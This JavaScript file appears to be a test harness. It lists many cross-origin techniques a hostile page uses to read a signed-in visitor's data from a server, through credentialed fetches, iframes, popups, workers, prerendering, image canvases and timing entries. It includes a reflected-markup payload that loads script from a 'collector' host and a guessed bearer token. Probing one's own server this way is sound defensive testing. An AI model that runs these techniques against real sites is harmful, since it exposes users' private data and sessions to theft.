// Ways in which a page tries to read from a server that its visitor is signed in to.
// Each takes { server, pages, telling } and returns whatever it came by: `pages` are all addresses that answer GET,
// `telling` those that would tell most.

const json = { headers: { Accept: "application/json", "X-Requested-With": "XMLHttpRequest" } };
const asked = (options) => ({ telling }) =>
  each(telling, async (address) => answered(await fetch(address, { credentials: "include", ...options })));

const reading = {
  "fetch": ({ pages }) => asked({})({ telling: pages }),
  "fetch that asks no permission": asked({ mode: "no-cors" }),
  "fetch with headers of its own": asked(json),
  "fetch with a guessed token": asked({ headers: { Authorization: "Bearer ssi_0123456789_guess" } }),
  "fetch that stops at redirects": asked({ redirect: "manual" }),
  "fetch from the cache": asked({ mode: "no-cors", cache: "force-cache" }),
  "fetch that outlives the page": asked({ mode: "no-cors", keepalive: true }),
  "HEAD": asked({ method: "HEAD", mode: "no-cors" }),

  "XMLHttpRequest": ({ telling }) =>
    each(telling, (address) => {
      const request = Object.assign(new XMLHttpRequest(), { withCredentials: true });
      request.open("GET", address);
      request.send();
      return new Promise((done) => {
        request.onloadend = () => done(`${request.status} ${request.responseText}`);
      });
    }),

  "fetch from another thread": ({ telling }) =>
    each(telling, (address) =>
      inWorker(`(await fetch(${JSON.stringify(address)}, { credentials: "include" })).text()`)),

  "script of another thread": ({ telling }) =>
    each(telling, (address) => inWorker(`importScripts(${JSON.stringify(address)})`)),

  "script": ({ telling }) =>
    each(telling, async (src) => {
      const mistakes = [];
      const heard = ({ message, filename }) => filename.startsWith(src) && mistakes.push(message);
      addEventListener("error", heard);
      const ended = await shown("script", { src });
      removeEventListener("error", heard);
      return `${ended} ${mistakes}`;
    }),
  "module": ({ telling }) => each(telling, async (address) => JSON.stringify(await import(address))),
  "data as a module": ({ telling }) => each(telling, (src) => shown("script", { src, type: "module", crossOrigin: "use-credentials" })),

  "style sheet": ({ telling }) =>
    each(telling, (href) =>
      shown("link", { rel: "stylesheet", href }, ({ sheet }) => looked(() => [...sheet.cssRules].map((rule) => rule.cssText)))),
  "imported style": ({ telling }) =>
    each(telling, (address) =>
      shown("style", { textContent: `@import url("${address}")` }, ({ sheet }) =>
        looked(() => [...sheet.cssRules[0].styleSheet.cssRules].map((rule) => rule.cssText)))),

  "image": ({ telling }) => each(telling, (src) => shown("img", { src }, ({ naturalWidth }) => naturalWidth)),
  "pixels of an image": ({ telling }) =>
    each(telling, (src) => shown("img", { src, crossOrigin: "use-credentials" }, (image) => looked(() => drawn(image)))),
  "picture of a picture": ({ server }) =>
    shown("img", { src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${server}/share.svg"/></svg>` },
      (image) => looked(() => drawn(image))),
  "sound and video": ({ telling }) =>
    each(telling, (src) => shown("video", { src }, ({ error, duration }) => `${error?.code} ${error?.message} ${duration}`)),

  "frame": ({ telling }) => each(telling, (src) => shown("iframe", { src }, (frame) => JSON.stringify(seenOf(frame.contentWindow)))),
  "frame without a name": ({ telling }) =>
    each(telling, (src) => shown("iframe", { src, credentialless: true, sandbox: "allow-scripts allow-same-origin" },
      (frame) => JSON.stringify(seenOf(frame.contentWindow)))),
  "object": ({ telling }) => each(telling, (data) => shown("object", { data }, (it) => looked(() => it.contentDocument?.body.innerText))),
  "embed": ({ telling }) => each(telling, (src) => shown("embed", { src }, (it) => looked(() => it.getSVGDocument()?.documentElement.outerHTML))),

  "window": ({ telling }) => each(telling, (address) => inWindow(address)),
  "window of a known name": ({ server }) => inWindow(server, "SSI History"),
  "window that is led there and back": async ({ server }) => {
    const other = open("about:blank");
    other.location = server;
    await arrived(other);
    looked(() => other.history.back());
    await pause(200);
    return left(other);
  },

  "WebSocket": ({ server }) => {
    const socket = new WebSocket(server.replace("http", "ws"));
    return new Promise((done) => {
      socket.onmessage = ({ data }) => done(data);
      socket.onopen = () => done("open");
      socket.onclose = ({ code, reason }) => done(`closed ${code} ${reason}`);
    });
  },
  "EventSource": ({ telling }) =>
    each(telling, (address) => {
      const source = new EventSource(address, { withCredentials: true });
      return new Promise((done) => {
        source.onmessage = ({ data }) => done(data);
        source.onerror = () => (source.close(), done("error"));
      });
    }),

  "fetch by a service worker": async ({ telling }) => {
    const { active, installing, waiting } = await navigator.serviceWorker.register("service_worker.js");
    const { port1, port2 } = new MessageChannel();
    (active ?? waiting ?? installing).postMessage(telling, [port2]);
    return new Promise((done) => {
      port1.onmessage = ({ data }) => done(data);
    });
  },

  "fetched ahead": ({ telling }) =>
    each(telling, async (href) => {
      const kinds = [{ rel: "prefetch" }, { rel: "preload", as: "fetch", crossOrigin: "use-credentials" }, { rel: "modulepreload" }];
      const ended = await Promise.all(kinds.map((kind) => within(shown("link", { ...kind, href }))));
      return `${ended}`;
    }),
  "rendered ahead": async ({ telling }) => {
    const source = { source: "list", urls: telling };
    const rules = { prefetch: [source], prerender: [source] };
    document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text: JSON.stringify(rules) }));
    await pause(200);
    return inWindow(telling[0]);
  },

  "cookies": async () => `${document.cookie} ${JSON.stringify((await globalThis.cookieStore?.getAll()) ?? [])}`,
  "markup in an address": ({ server, collector }) => {
    const markup = `"><base href="${collector}"><script src="${collector}"></script><img src='${collector}?`;
    const places = ["/?range=", "/pair?user_code="];
    return each(places.map((place) => server + place + encodeURIComponent(markup)), (address) => inWindow(address));
  },
  "what the browser noted of it": ({ telling }) =>
    each(telling, async (address) => {
      const once = `${address}?noted`;
      await fetch(once, { mode: "no-cors", credentials: "include" }).catch(String);
      const [entry] = performance.getEntriesByName(once);
      return [entry?.responseStatus, entry?.transferSize, entry?.decodedBodySize, entry?.contentType].join();
    }),
};

function drawn(image) {
  const canvas = Object.assign(document.createElement("canvas"), { width: 99, height: 99 });
  canvas.getContext("2d").drawImage(image, 0, 0);
  return canvas.toDataURL();
}
